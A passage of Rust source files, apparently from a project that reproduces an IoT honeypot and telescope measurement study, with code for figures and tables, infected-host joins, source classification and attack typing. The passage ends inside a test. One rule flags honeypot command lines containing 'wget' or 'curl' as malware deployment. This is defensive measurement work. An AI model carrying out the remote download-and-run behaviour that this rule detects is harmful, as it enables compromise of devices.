        telescope: &Telescope,
        rdns: &ReverseDns,
        vt: &VirusTotalDb,
    ) -> Fig6 {
        let mut rows = Vec::new();
        // Honeypot side.
        let mut per_proto: BTreeMap<Protocol, BTreeSet<Ipv4Addr>> = BTreeMap::new();
        for e in &dataset.events {
            if AttackDataset::is_scanning_service(rdns, e.src) {
                continue; // the figure concerns suspicious sources
            }
            per_proto.entry(e.protocol).or_default().insert(e.src);
        }
        for (p, srcs) in per_proto {
            let flagged = srcs.iter().filter(|s| vt.ip_is_malicious(**s)).count() as u64;
            rows.push((p, "H", srcs.len() as u64, flagged));
        }
        // Telescope side.
        let mut per_proto: BTreeMap<Protocol, BTreeSet<Ipv4Addr>> = BTreeMap::new();
        for rec in telescope.records() {
            let Some(p) = rec.target_protocol() else { continue };
            if !Protocol::SCANNED.contains(&p) {
                continue;
            }
            if AttackDataset::is_scanning_service(rdns, rec.src_ip) {
                continue;
            }
            per_proto.entry(p).or_default().insert(rec.src_ip);
        }
        for (p, srcs) in per_proto {
            let flagged = srcs.iter().filter(|s| vt.ip_is_malicious(**s)).count() as u64;
            rows.push((p, "T", srcs.len() as u64, flagged));
        }
        Fig6 { rows }
    }

    pub fn malicious_share(&self, protocol: Protocol, tag: &str) -> Option<f64> {
        self.rows
            .iter()
            .find(|(p, t, _, _)| *p == protocol && *t == tag)
            .map(|&(_, _, n, f)| if n == 0 { 0.0 } else { f as f64 / n as f64 })
    }

    pub fn render(&self) -> String {
        let mut t = Table::new(
            "Fig. 6: Malware classification by VirusTotal (%)",
            &["Protocol", "Dataset", "Sources", "Flagged", "Share"],
        );
        for &(p, tag, n, f) in &self.rows {
            t.row(&[
                p.name().into(),
                tag.into(),
                n.to_string(),
                f.to_string(),
                percent(f, n),
            ]);
        }
        t.render()
    }
}

// ---------------------------------------------------------------- Fig. 8

/// Fig. 8 — total attacks by day, with listing markers.
#[derive(Debug, Clone, Serialize)]
pub struct Fig8 {
    /// Events per day-of-month index.
    pub per_day: Vec<u64>,
    /// (service, day index) listing markers.
    pub listings: Vec<(String, u64)>,
}

impl Fig8 {
    pub fn compute(
        dataset: &AttackDataset,
        month_start: ofh_net::SimTime,
        month_days: u64,
        listings: &[(&'static str, ofh_net::SimTime)],
    ) -> Fig8 {
        let mut per_day = vec![0u64; month_days as usize];
        for e in &dataset.events {
            let day = e.time.since(month_start).as_secs() / 86_400;
            if (day as usize) < per_day.len() {
                per_day[day as usize] += 1;
            }
        }
        Fig8 {
            per_day,
            listings: listings
                .iter()
                .map(|(name, t)| (name.to_string(), t.since(month_start).as_secs() / 86_400))
                .collect(),
        }
    }

    /// Mean daily events before the first listing vs after the last one —
    /// the paper's "upward trend after being listed".
    pub fn pre_post_listing_means(&self) -> (f64, f64) {
        let first = self.listings.iter().map(|&(_, d)| d).min().unwrap_or(0) as usize;
        let last = self.listings.iter().map(|&(_, d)| d).max().unwrap_or(0) as usize;
        let pre: Vec<u64> = self.per_day[..first.max(1)].to_vec();
        let post: Vec<u64> = self.per_day[(last + 1).min(self.per_day.len())..].to_vec();
        let mean = |v: &[u64]| {
            if v.is_empty() {
                0.0
            } else {
                v.iter().sum::<u64>() as f64 / v.len() as f64
            }
        };
        (mean(&pre), mean(&post))
    }

    /// The day with the most events (DoS spike detection).
    pub fn peak_day(&self) -> usize {
        self.per_day
            .iter()
            .enumerate()
            .max_by_key(|(_, n)| **n)
            .map(|(d, _)| d)
            .unwrap_or(0)
    }

    pub fn render(&self) -> String {
        let mut t = Table::new(
            "Fig. 8: Total attacks by day (April 2021)",
            &["Day", "Events", "Markers"],
        );
        let max = self.per_day.iter().copied().max().unwrap_or(1).max(1);
        for (d, &n) in self.per_day.iter().enumerate() {
            let mut marker: Vec<String> = self
                .listings
                .iter()
                .filter(|&&(_, ld)| ld == d as u64)
                .map(|(s, _)| format!("{s} listing"))
                .collect();
            let bar = "#".repeat((n * 40 / max) as usize);
            marker.insert(0, bar);
            t.row(&[
                format!("{:02}", d + 1),
                n.to_string(),
                marker.join(" "),
            ]);
        }
        t.render()
    }
}

// ---------------------------------------------------------------- Fig. 9

/// Fig. 9 — multistage attacks: per-source protocol sequences.
#[derive(Debug, Clone, Serialize)]
pub struct Fig9 {
    /// Number of multistage attackers detected.
    pub attackers: u64,
    /// (stage index, protocol, attacks at that stage).
    pub stages: Vec<(usize, Protocol, u64)>,
}

impl Fig9 {
    /// Group attacks by source, order each source's protocols by first
    /// contact, and keep sources that attacked ≥2 protocols and are not
    /// scanning services (§5.4's filter).
    pub fn compute(dataset: &AttackDataset, rdns: &ReverseDns) -> Fig9 {
        let mut first_contact: BTreeMap<Ipv4Addr, BTreeMap<Protocol, ofh_net::SimTime>> =
            BTreeMap::new();
        for e in &dataset.events {
            if AttackDataset::is_scanning_service(rdns, e.src) {
                continue;
            }
            let per = first_contact.entry(e.src).or_default();
            per.entry(e.protocol).or_insert(e.time);
        }
        let mut attackers = 0u64;
        let mut stages: BTreeMap<(usize, Protocol), u64> = BTreeMap::new();
        for (_, per) in first_contact {
            if per.len() < 2 {
                continue;
            }
            attackers += 1;
            let mut seq: Vec<(ofh_net::SimTime, Protocol)> =
                per.into_iter().map(|(p, t)| (t, p)).collect();
            seq.sort();
            for (i, (_, p)) in seq.into_iter().enumerate() {
                *stages.entry((i, p)).or_insert(0) += 1;
            }
        }
        Fig9 {
            attackers,
            stages: stages.into_iter().map(|((i, p), n)| (i, p, n)).collect(),
        }
    }

    /// The dominant protocol at a stage.
    pub fn dominant_at(&self, stage: usize) -> Option<Protocol> {
        self.stages
            .iter()
            .filter(|(i, _, _)| *i == stage)
            .max_by_key(|(_, _, n)| *n)
            .map(|&(_, p, _)| p)
    }

    pub fn count_at(&self, stage: usize, protocol: Protocol) -> u64 {
        self.stages
            .iter()
            .find(|(i, p, _)| *i == stage && *p == protocol)
            .map(|&(_, _, n)| n)
            .unwrap_or(0)
    }

    pub fn render(&self) -> String {
        let mut t = Table::new(
            format!("Fig. 9: Multistage attacks ({} attackers)", self.attackers),
            &["Stage", "Protocol", "Attacks"],
        );
        for &(i, p, n) in &self.stages {
            t.row(&[format!("{}", i + 1), p.name().into(), n.to_string()]);
        }
        t.render()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::events::register_service_rdns;
    use ofh_honeypots::{AttackEvent, EventKind};
    use ofh_net::SimTime;

    fn ev(src: u32, honeypot: &'static str, proto: Protocol, t: u64, kind: EventKind) -> AttackEvent {
        AttackEvent {
            time: SimTime(t),
            honeypot,
            protocol: proto,
            src: Ipv4Addr::from(src),
            src_port: 1,
            kind,
        }
    }

    #[test]
    fn fig3_attribution_via_rdns() {
        let mut rdns = ReverseDns::new();
        register_service_rdns(&mut rdns, Ipv4Addr::from(1u32), "Shodan");
        register_service_rdns(&mut rdns, Ipv4Addr::from(2u32), "Censys");
        let ds = AttackDataset::merge(vec![vec![
            ev(1, "Cowrie", Protocol::Telnet, 1, EventKind::Connection),
            ev(1, "Cowrie", Protocol::Telnet, 2, EventKind::Connection),
            ev(2, "U-Pot", Protocol::Upnp, 3, EventKind::Discovery),
            ev(9, "Cowrie", Protocol::Telnet, 4, EventKind::Connection), // unknown
        ]]);
        let fig3 = Fig3::compute(&ds, &rdns);
        let ranked = fig3.ranked_services();
        assert_eq!(ranked[0], ("shodan".to_string(), 2));
        assert_eq!(fig3.total_for("U-Pot"), 1);
    }

    #[test]
    fn fig9_multistage_sequences() {
        let rdns = ReverseDns::new();
        let ds = AttackDataset::merge(vec![vec![
            // Source 7: Telnet then SMB then S7 (classic Fig. 9 chain).
            ev(7, "Cowrie", Protocol::Telnet, 100, EventKind::Connection),
            ev(7, "Dionaea", Protocol::Smb, 200, EventKind::Connection),
            ev(7, "Conpot", Protocol::S7, 300, EventKind::Connection),
            // Source 8: single protocol — not multistage.
            ev(8, "Cowrie", Protocol::Telnet, 100, EventKind::Connection),
            ev(8, "Cowrie", Protocol::Telnet, 500, EventKind::Connection),
        ]]);
        let fig9 = Fig9::compute(&ds, &rdns);
        assert_eq!(fig9.attackers, 1);
        assert_eq!(fig9.dominant_at(0), Some(Protocol::Telnet));
        assert_eq!(fig9.dominant_at(1), Some(Protocol::Smb));
        assert_eq!(fig9.dominant_at(2), Some(Protocol::S7));
        assert_eq!(fig9.count_at(0, Protocol::Telnet), 1);
    }

    #[test]
    fn fig8_day_series_and_trend() {
        let month = SimTime::ZERO;
        let mut events = Vec::new();
        for day in 0..10u64 {
            let n = if day < 5 { 2 } else { 6 };
            for i in 0..n {
                events.push(ev(
                    100 + i,
                    "Cowrie",
                    Protocol::Telnet,
                    day * 86_400_000 + 1_000,
                    EventKind::Connection,
                ));
            }
        }
        let ds = AttackDataset::merge(vec![events]);
        let fig8 = Fig8::compute(&ds, month, 10, &[("Shodan", SimTime(4 * 86_400_000))]);
        assert_eq!(fig8.per_day.len(), 10);
        assert_eq!(fig8.per_day[0], 2);
        assert_eq!(fig8.per_day[9], 6);
        let (pre, post) = fig8.pre_post_listing_means();
        assert!(post > pre);
        assert_eq!(fig8.listings[0].1, 4);
    }

    #[test]
    fn fig5_greynoise_gap() {
        let mut rdns = ReverseDns::new();
        register_service_rdns(&mut rdns, Ipv4Addr::from(1u32), "Shodan");
        register_service_rdns(&mut rdns, Ipv4Addr::from(2u32), "Bitsight");
        let mut gn = GreyNoiseDb::new();
        gn.insert(Ipv4Addr::from(1u32), GreyNoiseLabel::Benign);
        // Bitsight (europe-only) missing from GreyNoise.
        let ds = AttackDataset::merge(vec![vec![
            ev(1, "Cowrie", Protocol::Telnet, 1, EventKind::Connection),
            ev(2, "Cowrie", Protocol::Telnet, 2, EventKind::Connection),
        ]]);
        let fig5 = Fig5::compute(&ds, &rdns, &gn);
        let (ours, gn_count, only_ours) = fig5.row(Protocol::Telnet).unwrap();
        assert_eq!(ours, 2);
        assert_eq!(gn_count, 1);
        assert_eq!(only_ours, 1);
        assert_eq!(fig5.missed_by_greynoise, 1);
    }

    #[test]
    fn fig2_typing_from_scan() {
        use ofh_scan::HostRecord;
        let mut rs = ScanResults::new("ZMap Scan");
        rs.insert(HostRecord {
            addr: Ipv4Addr::from(1u32),
            port: 23,
            protocol: Protocol::Telnet,
            response: "192.168.0.64 login:".into(),
            raw: vec![],
        });
        rs.insert(HostRecord {
            addr: Ipv4Addr::from(2u32),
            port: 23,
            protocol: Protocol::Telnet,
            response: "PK5001Z login:".into(),
            raw: vec![],
        });
        rs.insert(HostRecord {
            addr: Ipv4Addr::from(3u32),
            port: 23,
            protocol: Protocol::Telnet,
            response: "login:".into(),
            raw: vec![],
        });
        let fig2 = Fig2::compute(&rs);
        assert_eq!(fig2.count(Protocol::Telnet, DeviceType::Camera), 1);
        assert_eq!(fig2.count(Protocol::Telnet, DeviceType::DslModem), 1);
        assert_eq!(fig2.identified_on(Protocol::Telnet), 2);
        assert_eq!(fig2.unidentified.get(&Protocol::Telnet), Some(&1));
    }
}
