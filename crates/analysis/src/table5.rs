//! Table 5 — misconfigured devices per protocol/vulnerability, after the
//! honeypot-sanitization filter.

use std::collections::BTreeSet;
use std::net::Ipv4Addr;

use ofh_devices::Misconfig;
use ofh_scan::ScanResults;
use serde::Serialize;

use crate::render::{thousands, Table};

/// One Table 5 row.
#[derive(Debug, Clone, Serialize)]
pub struct Table5Row {
    pub class: Misconfig,
    pub devices: u64,
}

/// The computed Table 5.
#[derive(Debug, Clone, Serialize)]
pub struct Table5 {
    pub rows: Vec<Table5Row>,
    pub total: u64,
    /// How many records the honeypot filter removed before counting.
    pub honeypots_filtered: usize,
}

impl Table5 {
    /// Classify `results`, removing `honeypot_filter` addresses first
    /// (the §4.2 sanitization step).
    pub fn compute(results: &ScanResults, honeypot_filter: &BTreeSet<Ipv4Addr>) -> Table5 {
        let mut filtered = results.clone();
        let honeypots_filtered = filtered.remove_addrs(honeypot_filter);
        let mut rows: Vec<Table5Row> = Misconfig::ALL
            .iter()
            .map(|&class| Table5Row {
                class,
                devices: filtered.misconfigured_addrs(class).len() as u64,
            })
            .collect();
        // Table 5 is ordered ascending by count.
        rows.sort_by_key(|r| r.devices);
        let total = filtered.all_misconfigured().len() as u64;
        Table5 {
            rows,
            total,
            honeypots_filtered,
        }
    }

    pub fn row(&self, class: Misconfig) -> &Table5Row {
        self.rows.iter().find(|r| r.class == class).expect("all classes present")
    }

    /// The misconfigured address set (input to the §5.3 join).
    pub fn misconfigured_addrs(
        results: &ScanResults,
        honeypot_filter: &BTreeSet<Ipv4Addr>,
    ) -> BTreeSet<Ipv4Addr> {
        let mut filtered = results.clone();
        filtered.remove_addrs(honeypot_filter);
        filtered.all_misconfigured()
    }

    pub fn render(&self) -> String {
        let mut t = Table::new(
            "Table 5: Total misconfigured devices per protocol",
            &["Protocol", "Vulnerability", "#Devices found", "Paper"],
        );
        for r in &self.rows {
            t.row(&[
                r.class.protocol().name().into(),
                r.class.vulnerability().into(),
                thousands(r.devices),
                thousands(r.class.paper_count()),
            ]);
        }
        t.row(&[
            "".into(),
            "Total".into(),
            thousands(self.total),
            thousands(ofh_devices::misconfig::PAPER_TOTAL),
        ]);
        t.render()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use ofh_scan::HostRecord;
    use ofh_wire::Protocol;

    fn record(addr: u32, proto: Protocol, response: &str) -> HostRecord {
        HostRecord {
            addr: Ipv4Addr::from(addr),
            port: proto.port(),
            protocol: proto,
            response: response.into(),
            raw: response.as_bytes().to_vec(),
        }
    }

    #[test]
    fn counts_and_filters() {
        let mut rs = ScanResults::new("ZMap Scan");
        rs.insert(record(1, Protocol::Telnet, "root@x:~$ "));
        rs.insert(record(2, Protocol::Telnet, "$ "));
        rs.insert(record(3, Protocol::Telnet, "login:"));
        rs.insert(record(4, Protocol::Mqtt, "MQTT Connection Code:0"));
        // A honeypot that would otherwise count as TelnetNoAuth.
        rs.insert(record(5, Protocol::Telnet, "[root@LocalHost tmp]$\r\n$ "));

        let mut filter = BTreeSet::new();
        filter.insert(Ipv4Addr::from(5u32));

        let t5 = Table5::compute(&rs, &filter);
        assert_eq!(t5.honeypots_filtered, 1);
        assert_eq!(t5.row(Misconfig::TelnetNoAuthRoot).devices, 1);
        assert_eq!(t5.row(Misconfig::TelnetNoAuth).devices, 1);
        assert_eq!(t5.row(Misconfig::MqttNoAuth).devices, 1);
        assert_eq!(t5.total, 3);

        // Without the filter, the honeypot poisons the count — the paper's
        // sanitization argument.
        let unfiltered = Table5::compute(&rs, &BTreeSet::new());
        assert_eq!(unfiltered.total, 4);
    }

    #[test]
    fn misconfigured_addr_set() {
        let mut rs = ScanResults::new("ZMap Scan");
        rs.insert(record(1, Protocol::Telnet, "root@x:~$ "));
        rs.insert(record(2, Protocol::Telnet, "login:"));
        let set = Table5::misconfigured_addrs(&rs, &BTreeSet::new());
        assert_eq!(set.len(), 1);
        assert!(set.contains(&Ipv4Addr::from(1u32)));
    }
}
