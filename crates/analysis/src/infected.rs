//! §5.3 — attacks from infected hosts: the three-dataset join.
//!
//! The paper's headline: intersect (a) the misconfigured-device addresses
//! from the IPv4 scan, (b) the honeypots' attack sources, and (c) the
//! telescope's suspicious sources. The result (11,118 addresses, all flagged
//! by ≥1 VirusTotal vendor) is extended with Censys "iot"-tagged attackers
//! (1,671) and with reverse-DNS domain analysis (797 domains, 427 webpages,
//! 346 flagged URLs).

use std::collections::BTreeSet;
use std::net::Ipv4Addr;

use ofh_intel::{CensysDb, ReverseDns, VirusTotalDb};
use ofh_telescope::Telescope;
use ofh_wire::Protocol;
use serde::Serialize;

use crate::events::AttackDataset;
use crate::render::{thousands, Table};

/// The computed §5.3 joins.
#[derive(Debug, Clone, Serialize)]
pub struct InfectedHosts {
    /// Misconfigured devices that attacked the honeypots only.
    pub honeypot_only: u64,
    /// … the telescope only.
    pub telescope_only: u64,
    /// … both.
    pub both: u64,
    /// Total (the 11,118 analogue).
    pub total: u64,
    /// Of those, flagged malicious by ≥1 VirusTotal vendor.
    pub vt_flagged: u64,
    /// Additional attackers tagged "iot" by Censys (not in the scan's
    /// misconfigured set): (honeypot-only, telescope-only, both).
    pub censys_extra: (u64, u64, u64),
    /// Registered domains among remaining sources; with webpages.
    pub domains: u64,
    pub domains_with_webpage: u64,
}

impl InfectedHosts {
    pub fn compute(
        misconfigured: &BTreeSet<Ipv4Addr>,
        dataset: &AttackDataset,
        telescope: &Telescope,
        vt: &VirusTotalDb,
        censys: &CensysDb,
        rdns: &ReverseDns,
    ) -> InfectedHosts {
        let honeypot_sources = dataset.sources();
        let telescope_sources: BTreeSet<Ipv4Addr> = telescope
            .records()
            .filter(|r| {
                r.target_protocol()
                    .is_some_and(|p| Protocol::SCANNED.contains(&p))
            })
            .map(|r| r.src_ip)
            .collect();

        let mut honeypot_only = 0u64;
        let mut telescope_only = 0u64;
        let mut both = 0u64;
        let mut vt_flagged = 0u64;
        let mut infected: BTreeSet<Ipv4Addr> = BTreeSet::new();
        for &addr in misconfigured {
            let h = honeypot_sources.contains(&addr);
            let t = telescope_sources.contains(&addr);
            match (h, t) {
                (true, true) => both += 1,
                (true, false) => honeypot_only += 1,
                (false, true) => telescope_only += 1,
                (false, false) => continue,
            }
            infected.insert(addr);
            if vt.ip_is_malicious(addr) {
                vt_flagged += 1;
            }
        }

        // Censys extension: remaining attack sources tagged "iot".
        let mut censys_h = 0u64;
        let mut censys_t = 0u64;
        let mut censys_b = 0u64;
        let remaining: BTreeSet<Ipv4Addr> = honeypot_sources
            .union(&telescope_sources)
            .copied()
            .filter(|a| !infected.contains(a))
            .collect();
        for &addr in &remaining {
            if !censys.is_tagged_iot(addr) {
                continue;
            }
            let h = honeypot_sources.contains(&addr);
            let t = telescope_sources.contains(&addr);
            match (h, t) {
                (true, true) => censys_b += 1,
                (true, false) => censys_h += 1,
                (false, true) => censys_t += 1,
                (false, false) => unreachable!("remaining is a union"),
            }
        }

        // Domain analysis of the remaining non-IoT sources, excluding the
        // scanning services' own registered hosts.
        let mut domains: BTreeSet<String> = BTreeSet::new();
        let mut with_webpage: BTreeSet<String> = BTreeSet::new();
        for &addr in &remaining {
            let Some(domain) = rdns.domain_of(addr) else { continue };
            if domain.ends_with(".scanner.example") {
                continue;
            }
            domains.insert(domain.to_string());
            if rdns
                .domain_info(domain)
                .is_some_and(|i| i.has_webpage)
            {
                with_webpage.insert(domain.to_string());
            }
        }

        InfectedHosts {
            honeypot_only,
            telescope_only,
            both,
            total: honeypot_only + telescope_only + both,
            vt_flagged,
            censys_extra: (censys_h, censys_t, censys_b),
            domains: domains.len() as u64,
            domains_with_webpage: with_webpage.len() as u64,
        }
    }

    pub fn censys_total(&self) -> u64 {
        self.censys_extra.0 + self.censys_extra.1 + self.censys_extra.2
    }

    pub fn render(&self) -> String {
        let mut t = Table::new(
            "§5.3: Attacks from infected hosts (three-dataset join)",
            &["Metric", "Measured", "Paper"],
        );
        t.row(&["Misconfigured devices attacking (total)".into(), thousands(self.total), "11,118".into()]);
        t.row(&["  honeypots only".into(), thousands(self.honeypot_only), "1,147".into()]);
        t.row(&["  telescope only".into(), thousands(self.telescope_only), "1,274".into()]);
        t.row(&["  both".into(), thousands(self.both), "8,697".into()]);
        t.row(&["  flagged by >=1 VT vendor".into(), thousands(self.vt_flagged), "11,118".into()]);
        t.row(&["Censys-tagged IoT attackers (extra)".into(), thousands(self.censys_total()), "1,671".into()]);
        t.row(&["  honeypots only".into(), thousands(self.censys_extra.0), "439".into()]);
        t.row(&["  telescope only".into(), thousands(self.censys_extra.1), "564".into()]);
        t.row(&["  both".into(), thousands(self.censys_extra.2), "668".into()]);
        t.row(&["Registered domains among sources".into(), thousands(self.domains), "797".into()]);
        t.row(&["  with webpages".into(), thousands(self.domains_with_webpage), "427".into()]);
        t.render()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use ofh_honeypots::{AttackEvent, EventKind};
    use ofh_intel::GeoDb;
    use ofh_net::sim::FlowTap;
    use ofh_net::rng::rng_for;
    use ofh_net::{FlowKind, FlowObservation, SimTime, Transport};

    fn a(n: u32) -> Ipv4Addr {
        Ipv4Addr::from(n)
    }

    fn hp_event(src: u32) -> AttackEvent {
        AttackEvent {
            time: SimTime(1),
            honeypot: "Cowrie",
            protocol: Protocol::Telnet,
            src: a(src),
            src_port: 1,
            kind: EventKind::Connection,
        }
    }

    fn telescope_with(sources: &[u32]) -> Telescope {
        let mut t = Telescope::new(GeoDb::new());
        for &s in sources {
            t.observe(&FlowObservation {
                time: SimTime(1),
                src: a(s),
                dst: a(0x1000_0001),
                src_port: 5,
                dst_port: 23,
                transport: Transport::Tcp,
                kind: FlowKind::TcpSyn,
                ttl: 40,
                tcp_flags: FlowObservation::SYN,
                tcp_window: 65_535,
                ip_len: 60,
                payload: Default::default(),
                spoofed: false,
            });
        }
        t
    }

    #[test]
    fn join_partitions_correctly() {
        // Misconfigured set: 10 (H only), 11 (T only), 12 (both), 13 (neither).
        let misconfigured: BTreeSet<Ipv4Addr> = [10u32, 11, 12, 13].iter().map(|&n| a(n)).collect();
        let ds = AttackDataset::merge(vec![vec![hp_event(10), hp_event(12), hp_event(20)]]);
        let telescope = telescope_with(&[11, 12, 21]);
        let mut vt = VirusTotalDb::new();
        let mut rng = rng_for(1, "t");
        for n in [10u32, 11, 12] {
            vt.ingest_ip(&mut rng, a(n), 1.0);
        }
        let mut censys = CensysDb::new();
        censys.ingest(&mut rng, a(20), "camera", 1.0); // extra IoT attacker
        let mut rdns = ReverseDns::new();
        rdns.register(
            a(21),
            "shop.example.net",
            ofh_intel::rdns::DomainInfo {
                has_webpage: true,
                webpage_kind: "fake shop".into(),
            },
        );

        let join = InfectedHosts::compute(&misconfigured, &ds, &telescope, &vt, &censys, &rdns);
        assert_eq!(join.honeypot_only, 1);
        assert_eq!(join.telescope_only, 1);
        assert_eq!(join.both, 1);
        assert_eq!(join.total, 3);
        assert_eq!(join.vt_flagged, 3);
        assert_eq!(join.censys_extra, (1, 0, 0));
        assert_eq!(join.domains, 1);
        assert_eq!(join.domains_with_webpage, 1);
        assert!(join.render().contains("11,118"));
    }
}
