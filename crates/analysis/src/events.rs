//! The merged honeypot dataset: source classification and attack typing.
//!
//! The paper's pipeline (§4.3): reverse-look-up every source; sources
//! registered to known scanning services are "scanning-service traffic";
//! sources exhibiting malicious behaviour (brute force, droppers, poisoning,
//! floods, exploits) are "malicious"; the rest — one-off unknown scans — are
//! "unknown/suspicious". DoS is detected from per-source-per-minute rates,
//! not from actor ground truth.

use std::collections::{BTreeMap, BTreeSet};
use std::net::Ipv4Addr;

use ofh_honeypots::{AttackEvent, EventKind};
use ofh_intel::ReverseDns;
use ofh_wire::Protocol;
use serde::Serialize;

/// Per-source classification (Table 7's starred columns).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
pub enum SourceClass {
    ScanningService,
    Malicious,
    Unknown,
}

/// Attack types (Figs. 4 and 7 categories).
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Serialize)]
pub enum AttackType {
    Scanning,
    BruteForce,
    MalwareDeployment,
    DataPoisoning,
    Dos,
    Exploit,
    Scraping,
}

impl AttackType {
    pub const ALL: [AttackType; 7] = [
        AttackType::Scanning,
        AttackType::BruteForce,
        AttackType::MalwareDeployment,
        AttackType::DataPoisoning,
        AttackType::Dos,
        AttackType::Exploit,
        AttackType::Scraping,
    ];

    pub const fn name(self) -> &'static str {
        match self {
            AttackType::Scanning => "Scanning/Discovery",
            AttackType::BruteForce => "Brute force",
            AttackType::MalwareDeployment => "Malware deployment",
            AttackType::DataPoisoning => "Data poisoning",
            AttackType::Dos => "DoS",
            AttackType::Exploit => "Exploit",
            AttackType::Scraping => "Web scraping",
        }
    }
}

/// Flood threshold: this many events from one source to one honeypot
/// protocol within one minute is a DoS, not scanning.
pub const DOS_EVENTS_PER_MINUTE: usize = 30;

/// Aggregate flood threshold: this many events to one honeypot protocol
/// within one minute — regardless of source — is a *distributed* DoS
/// episode (botnet swarms send few packets per source; the target still
/// drowns).
pub const DDOS_AGGREGATE_PER_MINUTE: usize = 60;

/// The merged honeypot event dataset.
pub struct AttackDataset {
    pub events: Vec<AttackEvent>,
    /// Minute-rate DoS flags per (src, honeypot, protocol).
    dos_sources: BTreeSet<(Ipv4Addr, &'static str, Protocol)>,
    /// Aggregate (distributed) flood episodes per (honeypot, protocol,
    /// minute).
    dos_minutes: BTreeSet<(&'static str, Protocol, u64)>,
}

impl AttackDataset {
    /// Merge per-honeypot logs into one time-ordered dataset and detect
    /// flood episodes (single-source and distributed).
    pub fn merge(logs: Vec<Vec<AttackEvent>>) -> AttackDataset {
        let mut events: Vec<AttackEvent> = logs.into_iter().flatten().collect();
        events.sort_by_key(|e| (e.time, e.src, e.src_port));
        // Flood detection by per-minute rates.
        let mut per_minute: BTreeMap<(Ipv4Addr, &'static str, Protocol, u64), usize> =
            BTreeMap::new();
        let mut aggregate: BTreeMap<(&'static str, Protocol, u64), usize> = BTreeMap::new();
        for e in &events {
            let minute = e.time.minute_index();
            *per_minute
                .entry((e.src, e.honeypot, e.protocol, minute))
                .or_insert(0) += 1;
            *aggregate.entry((e.honeypot, e.protocol, minute)).or_insert(0) += 1;
        }
        let dos_sources = per_minute
            .into_iter()
            .filter(|(_, n)| *n >= DOS_EVENTS_PER_MINUTE)
            .map(|((src, hp, proto, _), _)| (src, hp, proto))
            .collect();
        let dos_minutes = aggregate
            .into_iter()
            .filter(|(_, n)| *n >= DDOS_AGGREGATE_PER_MINUTE)
            .map(|(key, _)| key)
            .collect();
        AttackDataset {
            events,
            dos_sources,
            dos_minutes,
        }
    }

    pub fn len(&self) -> usize {
        self.events.len()
    }

    pub fn is_empty(&self) -> bool {
        self.events.is_empty()
    }

    /// All distinct source addresses.
    pub fn sources(&self) -> BTreeSet<Ipv4Addr> {
        self.events.iter().map(|e| e.src).collect()
    }

    /// Whether `src` is a known scanning service, by reverse lookup against
    /// scanner-registered domains (the paper's §4.3.1 method).
    pub fn is_scanning_service(rdns: &ReverseDns, src: Ipv4Addr) -> bool {
        rdns.domain_of(src).is_some_and(|d| d.ends_with(".scanner.example"))
    }

    /// Classify one source seen by one honeypot.
    pub fn classify_source(
        &self,
        rdns: &ReverseDns,
        honeypot: &'static str,
        src: Ipv4Addr,
    ) -> SourceClass {
        if Self::is_scanning_service(rdns, src) {
            return SourceClass::ScanningService;
        }
        let mut saw_malicious_kind = false;
        let mut event_count = 0usize;
        for e in self.events.iter().filter(|e| e.honeypot == honeypot && e.src == src) {
            event_count += 1;
            saw_malicious_kind |= matches!(
                e.kind,
                EventKind::LoginAttempt { .. }
                    | EventKind::PayloadDrop { .. }
                    | EventKind::DataWrite { .. }
                    | EventKind::ExploitSignature { .. }
            );
            // Flood participation — single-source or as part of a
            // distributed swarm — is malicious behaviour.
            if self.dos_sources.contains(&(src, honeypot, e.protocol))
                || self
                    .dos_minutes
                    .contains(&(honeypot, e.protocol, e.time.minute_index()))
            {
                saw_malicious_kind = true;
            }
        }
        if saw_malicious_kind || event_count > 6 {
            // Recurring non-service traffic and malicious payloads are
            // malicious (§4.3.1).
            SourceClass::Malicious
        } else {
            SourceClass::Unknown
        }
    }

    /// Attack type of one event, given the dataset's flood flags.
    pub fn attack_type(&self, event: &AttackEvent) -> AttackType {
        if self
            .dos_sources
            .contains(&(event.src, event.honeypot, event.protocol))
            || self
                .dos_minutes
                .contains(&(event.honeypot, event.protocol, event.time.minute_index()))
        {
            // Everything in a flood episode is DoS traffic.
            if matches!(
                event.kind,
                EventKind::Datagram { .. } | EventKind::HttpRequest { .. } | EventKind::Connection
                    | EventKind::ExploitSignature { .. }
            ) {
                return AttackType::Dos;
            }
        }
        match &event.kind {
            EventKind::LoginAttempt { .. } => AttackType::BruteForce,
            EventKind::PayloadDrop { .. } => AttackType::MalwareDeployment,
            EventKind::Command { line } => {
                if line.contains("wget") || line.contains("curl") {
                    AttackType::MalwareDeployment
                } else {
                    AttackType::BruteForce
                }
            }
            EventKind::DataWrite { .. } => AttackType::DataPoisoning,
            EventKind::ExploitSignature { .. } => AttackType::Exploit,
            EventKind::HttpRequest { .. } => AttackType::Scraping,
            EventKind::Connection
            | EventKind::Datagram { .. }
            | EventKind::Discovery
            | EventKind::DataRead { .. } => AttackType::Scanning,
        }
    }

    /// Events on a given honeypot.
    pub fn honeypot_events<'a>(
        &'a self,
        honeypot: &'a str,
    ) -> impl Iterator<Item = &'a AttackEvent> + 'a {
        self.events.iter().filter(move |e| e.honeypot == honeypot)
    }

    /// Sources that triggered a DoS flag anywhere.
    pub fn dos_source_count(&self) -> usize {
        self.dos_sources
            .iter()
            .map(|(src, _, _)| *src)
            .collect::<BTreeSet<_>>()
            .len()
    }
}

/// Register a scanning-service source in the reverse-DNS oracle using the
/// convention `is_scanning_service` resolves: `<host>.<service>.scanner.example`.
pub fn register_service_rdns(rdns: &mut ReverseDns, addr: Ipv4Addr, service: &str) {
    let slug: String = service
        .to_ascii_lowercase()
        .chars()
        .map(|c| if c.is_ascii_alphanumeric() { c } else { '-' })
        .collect();
    rdns.register(
        addr,
        &format!("probe-{}.{}.scanner.example", u32::from(addr), slug),
        ofh_intel::rdns::DomainInfo::default(),
    );
}

#[cfg(test)]
mod tests {
    use super::*;
    use ofh_net::SimTime;

    fn event(src: &str, honeypot: &'static str, t: u64, kind: EventKind) -> AttackEvent {
        AttackEvent {
            time: SimTime(t),
            honeypot,
            protocol: Protocol::Telnet,
            src: src.parse().unwrap(),
            src_port: 5555,
            kind,
        }
    }

    #[test]
    fn merge_sorts_by_time() {
        let ds = AttackDataset::merge(vec![
            vec![event("1.1.1.1", "Cowrie", 50, EventKind::Connection)],
            vec![event("2.2.2.2", "HosTaGe", 10, EventKind::Connection)],
        ]);
        assert_eq!(ds.len(), 2);
